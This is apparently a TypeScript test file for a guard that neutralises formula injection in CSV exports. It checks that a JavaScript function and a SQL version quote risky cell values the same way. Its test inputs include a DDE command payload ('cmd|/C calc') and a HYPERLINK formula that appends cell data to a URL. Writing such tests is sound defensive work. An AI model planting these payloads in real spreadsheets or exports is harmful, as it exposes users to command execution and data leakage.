import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { withSession } from '../duck/session.js';
import { literal } from '../duck/sql.js';
import { guarded, guardedSql } from './formula-guard.js';

const formulas = [
  '=1+1',
  '=HYPERLINK("http://x.test?"&A1,"click")',
  '+1+cmd|"/C calc"!A0',
  '-2+3',
  '--1',
  '-',
  '@SUM(A1:A9)',
  '\t=1',
  '\tplain',
  '\rplain',
  '\nplain',
  '\0=1',
  ' =1+1',
  '\u00a0@x',
  '\ufeff=1',
  '\u200b+x',
  '＝1+1',
  '＋1',
  '－1',
  '＠x',
  '+49-170-1234',
  '-1,234.50;=1',
  '-5\n=1',
  '-5e3e',
  '-1 2',
];
const harmless = [
  '',
  ' ',
  'text',
  '5',
  '-5',
  '+1.5',
  '-1,234.50',
  '-1.234,50',
  "-1'234.5",
  '-1 234 567',
  '-1\u00a0234',
  '-5e3',
  '+1.5E-10',
  '-.5',
  '-5 %',
  '-5 ',
  ' -5',
  '+4917012345678',
  'a=b',
  'ann@x.test',
  "'=1",
  '"=1"',
  '#REF!',
  'ü=1',
  '😀=1',
];

async function inSql(texts: readonly string[]): Promise<string[]> {
  return withSession({}, async (session) => {
    const rows = texts.map((text, at) => `(${at}, ${literal(text)})`).join(', ');
    // The mark in front: the Node client takes a leading U+FEFF for a byte order mark and drops it.
    const read = await session.rows(
      `SELECT '|' || ${guardedSql('"t"')} AS made FROM (VALUES ${rows}) v(n, "t") ORDER BY n`,
    );
    return read.map(({ made }) => String(made).slice(1));
  });
}

describe('the guard against formulas in CSV', () => {
  it('puts a quote in front of whatever a spreadsheet may calculate', async () => {
    const expected = formulas.map((text) => `'${text}`);
    expect(formulas.map(guarded)).toEqual(expected);
    expect(await inSql(formulas)).toEqual(expected);
  });

  it('leaves plain numbers and texts as they are', async () => {
    expect(harmless.map(guarded)).toEqual(harmless);
    expect(await inSql(harmless)).toEqual(harmless);
  });

  it('is the same in SQL for any text', async () => {
    const sign = fc.constantFrom(...'=+-@＝＋－＠ \t\r\n\0\ufeff0159.,e%\'";aZ~é😀'.split(/(?:)/u));
    const texts = fc.sample(fc.oneof(fc.string({ unit: sign, maxLength: 8 }), fc.string()), 2000);
    expect(await inSql(texts)).toEqual(texts.map(guarded));
  });
});
